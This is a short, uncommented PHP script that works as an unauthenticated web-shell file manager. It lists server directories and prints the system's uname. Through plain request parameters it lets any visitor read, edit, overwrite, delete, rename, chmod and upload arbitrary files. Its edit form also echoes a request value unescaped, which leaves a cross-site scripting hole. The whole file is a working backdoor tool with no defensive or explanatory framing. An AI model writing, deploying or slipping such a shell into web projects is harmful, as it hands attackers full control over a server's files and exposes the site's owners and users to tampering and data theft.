<?php
session_start();
$d = realpath($_REQUEST['d'] ?? getcwd()); chdir($d);
switch ($_REQUEST['a'] ?? '') {
    case 'save': file_put_contents($_POST['f'], $_POST['body']); break;
    case 'del': is_dir($_GET['f']) ? rmdir($_GET['f']) : unlink($_GET['f']); break;
    case 'ren': rename($_GET['f'], $_GET['t']); break;
    case 'chmod': chmod($_GET['f'], octdec($_GET['t'])); break;
    case 'up': move_uploaded_file($_FILES['u']['tmp_name'], $_FILES['u']['name']); break;
}
echo "<title>~ FM ~</title><b>", php_uname(), "</b><br>$d<hr>";
foreach (scandir('.') as $f) {
    $q = '?d=' . urlencode($d) . '&f=' . urlencode($f);
    printf('<a href="?d=%s">%s</a> %s %s <a href="%s&a=del">x</a> <a href="%s&a=edit">e</a><br>', urlencode("$d/$f"), htmlspecialchars($f), @filesize($f), decoct(@fileperms($f) & 0777), $q, $q);
}
if (($_GET['a'] ?? '') === 'edit') { echo '<form method=post><input name=f value="', $_GET['f'], '"><input type=hidden name=a value=save><textarea name=body>', htmlspecialchars(file_get_contents($_GET['f'])), '</textarea><button>ok</button></form>'; }
